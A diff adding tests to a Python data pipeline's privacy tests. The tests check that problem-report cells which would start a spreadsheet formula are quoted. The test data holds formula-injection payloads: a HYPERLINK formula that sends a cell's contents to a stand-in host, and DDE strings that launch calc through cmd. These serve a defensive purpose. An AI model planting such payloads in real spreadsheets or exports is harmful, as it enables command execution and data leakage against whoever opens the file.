@@ -1,5 +1,6 @@
 """Privacy mechanics: the keyed hash, the key's keeping, and the snapshot that never holds child-level tables."""
 
+import csv
 import errno
 import os
 import resource
@@ -14,7 +15,14 @@ from assets.resources import CouncilReturnsResource
 from checks.council_returns import holds
 from checks.rules import Suite
 from pipelines import settings
-from warehouse.council_returns import PseudonymKeyError, problem_rows, pseudonym, pseudonym_key
+from warehouse.council_returns import (
+    PseudonymKeyError,
+    problem_rows,
+    pseudonym,
+    pseudonym_key,
+    spreadsheet_text,
+    write_problem_report,
+)
 from warehouse.publish import publish_snapshot
 
 A_KEY = "a-secret-of-thirty-two-bytes-or-more"
@@ -139,3 +147,46 @@ def test_a_rule_on_a_personal_column_names_it_in_the_report_without_its_value() 
     assert (row["file"], row["line"], row["field"]) == ("h.csv", 2, "dob")
     assert row["value"] == "dob=(left out: personal), home_post=(left out: personal)"
     assert row["child"] == pseudonym(b"k" * 32, "C1")
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1,"open")', '\'=HYPERLINK("http://x.example/?"&A1,"open")'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("decom=blank", "decom=blank"),
+        ("31/13/2024", "31/13/2024"),
+        ("", ""),
+        (3, 3),
+        (None, None),
+    ],
+)
+def test_a_cell_that_would_start_a_formula_is_quoted(value: object, written: object) -> None:
+    assert spreadsheet_text(value) == written
+
+
+def test_every_text_cell_of_the_problem_report_is_safe_in_a_spreadsheet(tmp_path: Path) -> None:
+    row = {
+        "severity": "error",
+        "file": "=evil.csv",
+        "line": 2,
+        "field": "+DOB",
+        "child": None,
+        "problem": "@problem",
+        "value": "-1+1",
+        "quarter_end": "2025-03-31",
+    }
+    frame = write_problem_report([row], tmp_path / "r.csv")
+    assert frame.loc[0, "file"] == "=evil.csv", "the frame returned keeps the values; only the file is quoted"
+    cells = next(iter(csv.DictReader((tmp_path / "r.csv").open(newline=""))))
+    assert [cells[name] for name in ("file", "line", "field", "problem", "value")] == [
+        "'=evil.csv",
+        "2",
+        "'+DOB",
+        "'@problem",
+        "'-1+1",
+    ]
